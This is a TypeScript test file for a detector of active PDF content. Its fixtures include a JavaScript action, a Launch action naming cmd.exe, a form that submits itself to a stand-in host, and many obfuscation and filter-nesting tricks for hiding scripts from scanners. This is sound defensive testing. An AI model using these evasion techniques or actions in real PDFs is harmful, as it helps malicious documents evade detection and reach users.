import { deflateSync, inflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { aPdf } from '../testing/sample-files.ts';
import { isActivePdf } from './active-pdf.ts';

const inflate = (bytes: Uint8Array): Uint8Array | null => {
  try {
    return inflateSync(bytes, { maxOutputLength: 1_000_000 });
  } catch {
    return null;
  }
};
const text = (of: string) => Buffer.from(of, 'latin1');
const pdf = (...parts: (string | Buffer)[]) =>
  Buffer.concat([
    text('%PDF-1.7\n'),
    ...parts.map((part) => (typeof part === 'string' ? text(part) : part)),
    text('\n%%EOF\n'),
  ]);
const stream = (dictionary: string, bytes: Uint8Array, end = '\nendstream endobj\n') =>
  Buffer.concat([text(`5 0 obj<<${dictionary}>>stream\r\n`), bytes, text(end)]);
const objects = (of: string) => deflateSync(text(of));

const SCRIPT = '<</S/JavaScript/JS(app.alert(1))>>';

describe('a PDF', () => {
  it.each<[string, Buffer]>([
    ['a script', pdf(`1 0 obj${SCRIPT}endobj`)],
    ['a script in other letters', pdf('1 0 obj<</S /#4aavaS#63ript /JS(x)>>endobj')],
    ['a program to start', pdf('1 0 obj<</S/Launch/F(cmd.exe)>>endobj')],
    ['a form that sends itself', pdf('1 0 obj<</S/SubmitForm/F(http://evil.test)>>endobj')],
    ['a file within', pdf('1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj')],
    ['a dynamic form', pdf('1 0 obj<</AcroForm<</XFA 3 0 R>>>>endobj')],
    ['encryption', pdf('trailer<</Encrypt 9 0 R/Root 1 0 R>>')],
    [
      'a script in compressed objects',
      pdf(stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', objects(`1 0 ${SCRIPT}`))),
    ],
    [
      'a script in compressed objects without a type',
      pdf(stream('/N 1 /#46irst 4 /Filter [ /FlateDecode ]', objects(`1 0 ${SCRIPT}`))),
    ],
    [
      'a script in the second compressed stream',
      pdf(
        stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', objects('1 0 <</A 1>>')),
        stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', objects(`2 0 ${SCRIPT}`)),
      ),
    ],
    [
      'objects in a filter that hides them',
      pdf(stream('/Type/ObjStm/N 1/First 4/Filter/LZWDecode', text('x'))),
    ],
    [
      'objects behind two filters',
      pdf(
        stream(
          '/Type/ObjStm/First 4/Filter[/ASCIIHexDecode/FlateDecode]',
          text(`${objects('1 0 <<>>').toString('hex')}>`),
        ),
      ),
    ],
    [
      'objects that expand without end',
      pdf(stream('/First 4/Filter/FlateDecode', deflateSync(Buffer.alloc(5_000_000)))),
    ],
    [
      'objects that end too early',
      pdf(stream('/First 4/Filter/FlateDecode', objects('1 0 <<>>').subarray(0, 6))),
    ],
    [
      'a script after a comment that looks like a stream',
      pdf(stream('/N 1/First 4%>>stream\n/Filter/FlateDecode', objects(`1 0 ${SCRIPT}`))),
    ],
    [
      'objects compressed twice',
      pdf(stream('/First 4/Filter[/FlateDecode/FlateDecode]', deflateSync(objects(`1 0 ${SCRIPT}`)))),
    ],
    [
      'objects in a second filter',
      pdf(
        stream(
          '/First 4/Filter/FlateDecode/Filter[/FlateDecode/ASCIIHexDecode]',
          objects(Buffer.from(`1 0 ${SCRIPT}`).toString('hex')),
        ),
      ),
    ],
    [
      'objects with rearranged bytes',
      pdf(
        stream(
          '/First 4/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 1>>',
          objects([...`1 0 ${SCRIPT}`].join('\0')),
        ),
      ),
    ],
    [
      'a script behind a long dictionary',
      pdf(stream(`/First 4/X(${'x'.repeat(9_000)})/Filter/FlateDecode`, objects(`1 0 ${SCRIPT}`))),
    ],
    [
      'a script behind texts that look like the end of a dictionary',
      pdf(
        stream(
          '/First 4/X(\\)>>(a)1 0 obj<<)%endobj 1 0 obj<<\n/Filter/FlateDecode',
          objects(`1 0 ${SCRIPT}`),
        ),
      ),
    ],
    [
      'objects in a hidden filter behind an object in a comment',
      pdf(stream('/First 4%endobj 1 0 obj<<\n/Filter/LZWDecode', text('x'))),
    ],
    [
      'a script after a lone carriage return',
      pdf(
        '5 0 obj%<<\n<</First 4/Filter/FlateDecode>>%\n stream \r',
        objects(`1 0 ${SCRIPT}`),
        '\nendstream endobj',
      ),
    ],
  ])('with %s is active', (_, bytes) => expect(isActivePdf(bytes, inflate)).toBe(true));

  it.each<[string, Uint8Array]>([
    ['pages only', aPdf()],
    [
      'links and a first page',
      pdf('1 0 obj<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://bank.example)>>>>endobj'),
    ],
    [
      'a name that only begins alike',
      pdf('1 0 obj<</JavaScriptFree true/Encrypted false/LaunchDate 1>>endobj'),
    ],
    [
      'compressed objects',
      pdf(stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', objects('1 0 <</Type/Page>>'))),
    ],
    ['plain objects in a stream', pdf(stream('/Type/ObjStm/N 1/First 4', text('1 0 <</Type/Page>>')))],
    [
      'a picture right after compressed objects',
      pdf(
        stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', objects('1 0 <</Type/Page>>')),
        stream('/Subtype/Image/Filter/DCTDecode', text('\xff\xd8\xff')),
      ),
    ],
    [
      'a compressed picture',
      pdf(stream('/Subtype/Image/Filter[/ASCII85Decode/LZWDecode]', text('stream\n#4a'))),
    ],
  ])('with %s is not', (_, bytes) => expect(isActivePdf(bytes, inflate)).toBe(false));

  it.each([
    ['stream\nobj#4a<</Filter/Fl', false],
    ['obj<<', true],
    ['obj<<(', true],
    ['obj<<%', true],
    ['1 0 obj<</#4a#4a>>\n', false],
    ['obj%', true],
    ['obj %\n%\n', false],
    [`obj${' '.repeat(1_000)}`, false],
    ['obj<<>> % ', true],
    ['5 0 obj<</First 4/Filter/FlateDecode>>stream\nx', true],
  ])('of the largest size is searched without backtracking: %j', (part, isActive) => {
    const noise = Buffer.alloc(10 * 2 ** 20, part);
    // A quadratic search takes minutes, which the time limit of a test refuses.
    expect(isActivePdf(pdf(noise), inflate)).toBe(isActive);
  });

  it('may have a text with a bracket and an outline before its compressed objects', () => {
    const objectStream = stream('/X(a\\)b)/Type/ObjStm/First 4/Filter/FlateDecode', objects('1 0 <</A 1>>'));
    expect(isActivePdf(pdf('1 0 obj<</Type/Outlines/First 2 0 R>>endobj', objectStream), inflate)).toBe(
      false,
    );
  });
});
